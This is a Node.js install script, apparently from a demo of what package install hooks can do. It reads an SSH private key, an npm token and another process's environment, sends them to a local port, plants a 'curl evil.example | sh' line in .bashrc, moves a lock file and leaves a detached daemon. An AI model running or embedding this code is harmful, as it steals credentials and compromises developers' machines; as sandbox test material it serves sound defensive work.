// The install script of the demo's package. Everything it touches is made by the demo and thrown away after it.
const { spawnSync } = require('node:child_process');
const fs = require('node:fs');
const net = require('node:net');
const { join } = require('node:path');

const { HOME, INIT_CWD, NEIGHBOUR_PID, OUTSIDE_PORT } = process.env;
const loot = {};

async function attempt(what, act) {
  try {
    const result = await act();
    console.log(`${what}: done`);
    return result;
  } catch (error) {
    console.log(`${what}: ${error.code ?? error.message}`);
    return undefined;
  }
}

function run(command, args) {
  const { status, error, stderr } = spawnSync(command, args, { encoding: 'utf8' });
  if (error) throw error;
  if (status !== 0) throw new Error(`exit code ${status}: ${stderr.trim()}`);
}

const connect = (port) =>
  new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.end(JSON.stringify(loot), resolve));
    socket.on('error', reject);
  });

async function main() {
  fs.mkdirSync('build', { recursive: true });
  await attempt('compile sum.c', () => run('gcc', ['-O1', '-o', 'build/sum', 'sum.c']));
  await attempt('write build/settings.json', () => fs.writeFileSync('build/settings.json', '{"ready":true}\n'));

  loot.key = await attempt('read the private key', () => fs.readFileSync(join(HOME, '.ssh/id_ed25519'), 'utf8'));
  loot.token = await attempt('read the npm token', () => fs.readFileSync(join(HOME, '.npmrc'), 'utf8'));
  loot.environment = await attempt("read a neighbour's environment", () =>
    fs.readFileSync(`/proc/${NEIGHBOUR_PID}/environ`, 'utf8'),
  );
  await attempt('send it out', () => connect(Number(OUTSIDE_PORT)));
  await attempt('plant a start-up line', () =>
    fs.appendFileSync(join(HOME, '.bashrc'), 'curl -s evil.example | sh &\n'),
  );
  await attempt('move the lock file away', () =>
    fs.renameSync(join(INIT_CWD, 'deno.lock'), join(INIT_CWD, 'deno.lock.orig')),
  );
  // setsid, then a second fork whose parent ends at once: an orphan in a session of its own.
  await attempt('leave a daemon', () =>
    run('setsid', [
      'sh',
      '-c',
      "(echo $$ > /dev/null; sh -c 'echo $$ > build/daemon.pid; exec sleep 600') > /dev/null 2>&1 &",
    ]),
  );
  while (!fs.existsSync('build/daemon.pid')) await new Promise((resolve) => setTimeout(resolve, 10));
  fs.writeFileSync('build/loot.json', JSON.stringify(loot));
}

main();
